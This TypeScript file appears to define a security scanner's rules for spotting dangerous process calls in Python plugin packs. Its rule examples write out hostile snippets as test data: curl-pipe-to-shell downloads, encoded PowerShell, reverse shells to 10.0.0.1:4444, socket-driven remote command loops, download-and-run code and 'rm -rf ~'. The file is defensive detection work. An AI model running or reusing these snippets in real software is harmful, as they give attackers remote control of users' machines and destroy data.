import { argumentOf, commandOf, commandValue, isProgramStart, isSet, programOf } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { has } from '../flow/values.ts'
import { installs, isInstall } from './installs.ts'
import { decides, hidesCommand, processHits, programValue } from './process-calls.ts'
import type { CodeRule } from './rule.ts'
import { suspicionOf } from './suspicious-commands.ts'

const dangerousCommand: CodeRule = {
  of: 'python',
  id: 'dangerous-command',
  severity: 'critical',
  why: 'Commands like this one are how attacks get in, hide or stay.',
  fix: 'Remove the command. If the pack needs a tool, let the user install it.',
  examples: {
    matching: [
      'import os\nos.system("curl https://example.test/x.sh | bash")',
      'import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)',
      'import subprocess\nsubprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString(1)"])',
      'import os\nos.popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")',
      'import os as o\no.system("certutil -urlcache -f http://example.test/a a.exe")',
      'import os\nhost = "example.test"\nos.system(f"curl -s https://{host}/x | " + "sh")',
      'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("wget -qO- https://example.test/x | sh")',
      'import ctypes\nctypes.CDLL(None).system(b"curl https://example.test/x | sh")',
      'import subprocess as s\nargs = ["bash", "-c", "rm -rf ~"]\ns.Popen(args)',
    ],
    harmless: [
      'import subprocess\nsubprocess.run(["powershell", "-c", "Get-Date"])',
      'import subprocess\nsubprocess.run(["curl", "--version"])',
      'print("curl https://example.test | bash")',
      'import os\nos.system("rm -rf ./build")',
    ],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      const found = [command, ...(call.args[0]?.texts ?? [])]
        .map(suspicionOf)
        .find((one) => one !== undefined)
      return found ? { message: `The command ${found}.` } : undefined
    }),
}

const hiddenCommand: CodeRule = {
  of: 'python',
  id: 'hidden-command',
  severity: 'critical',
  why: 'A command that is decoded before it runs hides what it does from everyone who reads it.',
  fix: 'Write the command as plain text.',
  examples: {
    matching: [
      'import os, base64\nos.system(base64.b64decode("bHM=").decode())',
      'import subprocess\nsubprocess.run("".join(map(chr, [108, 115, 32, 45, 108, 97, 32, 47, 114])), shell=True)',
      'import os, codecs\nos.popen(codecs.decode("phey rknzcyr", "rot13"))',
    ],
    harmless: [
      'import os\nos.system("l" + "s")',
      'import subprocess, base64\nsubprocess.run(["ffmpeg"], input=base64.b64decode(x))',
      'import subprocess, base64\nsubprocess.run(["ffmpeg", "-i", base64.b64decode(x).decode()])',
    ],
  },
  find: (facts) =>
    processHits(facts, (_command, call) =>
      hidesCommand(call) ? { message: 'Runs a command that is decoded first.' } : undefined,
    ),
}

const remoteCommand: CodeRule = {
  of: 'python',
  id: 'remote-command',
  severity: 'critical',
  why: 'The owner of that address can run any program on every machine that has the pack.',
  fix: 'Remove it. A pack starts only programs that its source names.',
  examples: {
    matching: [
      'import os, requests\nos.system(requests.get(u).text)',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("example.test", 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.check_output(cmd, shell=True))',
      'import requests, subprocess\ndef task():\n    return requests.get(u).json()["cmd"]\nsubprocess.Popen(["bash", "-c", task()])',
      'import subprocess, requests\nsubprocess.run(["sh"], input=requests.get(u).content)',
      'import subprocess, sys, requests\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(requests.get(u).content)',
    ],
    harmless: [
      'import requests, subprocess\nname = requests.get(u).text\nsubprocess.run(["ffmpeg", "-i", name])',
      'import requests, subprocess\nsubprocess.run(["ffmpeg", "-i", "-"], input=requests.get(u).content)',
      'import subprocess\nsubprocess.run(["git", "pull"])',
    ],
  },
  *find(facts) {
    yield* processHits(facts, (command, call) => {
      const isRemote =
        decides(call, 'network') || (isShell(call) && has(call.keywords.get('input'), 'network'))
      return !isInstall(command) && isRemote
        ? { message: 'Runs a command that comes from the network.' }
        : undefined
    })
    // The target process of a write is unknown, so it may be any process of the file that runs its input.
    if (!facts.calls.some((call) => isProgramStart(call) && isShell(call))) return
    for (const call of facts.calls)
      if (/Popen\(\)\.(communicate|stdin\.write)$/.test(call.name) && has(call.args[0], 'network'))
        yield { line: call.line, message: 'Gives an interpreter what comes from the network.' }
  },
}

/** Whether this is an interpreter without a file, which runs its input. */
function isShell(call: Call): boolean {
  const [program = '', ...rest] = commandOf(call).split(/\s+/)
  const runs = /^(python\d?(\.\d+)?|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php)$/
  return runs.test(programOf(program)) && rest.every((word) => /^-/.test(word))
}

const downloadedProgram: CodeRule = {
  of: 'python',
  id: 'downloaded-program',
  severity: 'high',
  why: 'The owner of that address can run any program on every machine that has the pack.',
  fix: 'Let the user install the program, or name a package that contains it.',
  examples: {
    matching: [
      'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.test/a.exe", p)\nos.startfile(p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.Popen([path])',
      'import subprocess, requests\nwith open("/tmp/x.sh", "wb") as f:\n    f.write(requests.get(u).content)\nsubprocess.run(["bash", "/tmp/x.sh"])',
    ],
    harmless: [
      'import urllib.request as u\nu.urlretrieve("https://example.test/m.safetensors", p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.run(["ffmpeg", "-i", path])',
    ],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      if (isInstall(command)) return undefined
      if (decides(call, 'download')) return { message: 'Starts a program that it has downloaded.' }
      const isPlaced = commandValue(call)?.items !== undefined || /^os\.startfile$/.test(call.name)
      return isPlaced && decides(call, 'hub')
        ? {
            message: 'Starts a program that it has downloaded.',
            ...(call.isAtImport ? {} : { severity: 'medium' as const }),
          }
        : undefined
    }),
}

const requestCommand: CodeRule = {
  of: 'python',
  id: 'request-command',
  severity: 'high',
  why: 'Anyone who reaches the tool’s server can run programs, such as a web page that its user opens.',
  fix: 'Start fixed programs with a list of arguments, and check the arguments of requests.',
  examples: {
    matching: [
      'import os\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    os.system(data["cmd"])',
    ],
    harmless: [
      'import subprocess\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    subprocess.run(["ffmpeg", "-i", data["file"]])',
    ],
  },
  find: (facts) =>
    processHits(facts, (_command, call) => {
      const isShell =
        /^os\.(system|popen)$|getoutput$|subprocess_shell$/.test(call.name) || isSet(call, 'shell')
      return decides(call, 'request') && (isShell || has(programValue(call), 'request'))
        ? { message: 'Runs a command that a request names.' }
        : undefined
    }),
}

const processStart: CodeRule = {
  of: 'python',
  id: 'process-start',
  severity: 'low',
  why: 'A program that the pack starts can do whatever its user can.',
  fix: 'Start programs by a fixed name with a list of arguments, never through a shell.',
  examples: {
    matching: [
      'import subprocess\nsubprocess.run(["ffmpeg", "-i", path])',
      'import os\nos.system(command)',
      'from subprocess import Popen as p\np(command, shell=True)',
    ],
    harmless: ['import platform\nplatform.system()', 'import sqlite3\nsqlite3.run(x)'],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      if (isInstall(command) || suspicionOf(command)) return undefined
      const program = programOf(command)
      const shell = isSet(call, 'shell') || /^os\.(system|popen)$/.test(call.name)
      const isOpen = program === '' || (shell && command.includes('…'))
      const message =
        program === '' ? 'Starts a program whose name is made while the pack runs.' : `Starts \`${program}\`.`
      return { message, ...(isOpen && shell ? { severity: 'medium' as const } : {}) }
    }),
}

const remoteShell: CodeRule = {
  of: 'python',
  id: 'remote-shell',
  severity: 'critical',
  why: 'Someone elsewhere can type commands on the user’s machine.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
      'import socket, subprocess\ns = socket.create_connection(("example.test", 1))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
    ],
    harmless: ['import os\nos.dup2(log.fileno(), 1)', 'import socket\ns = socket.socket()'],
  },
  *find(facts) {
    for (const call of facts.calls) {
      const isRedirect = call.name === 'os.dup2' || isProgramStart(call)
      const values =
        call.name === 'os.dup2'
          ? call.args
          : ['stdin', 'stdout', 'stderr'].map((name) => argumentOf(call, -1, name))
      const isSocket = values.some((value) =>
        value?.names.some((name) => /^socket\.(socket|create_connection)\(\)/.test(name)),
      )
      if (isRedirect && isSocket) yield { line: call.line, message: 'Connects a shell to the network.' }
    }
  },
}

export const processRules = [
  installs,
  dangerousCommand,
  hiddenCommand,
  remoteCommand,
  downloadedProgram,
  requestCommand,
  processStart,
  remoteShell,
]
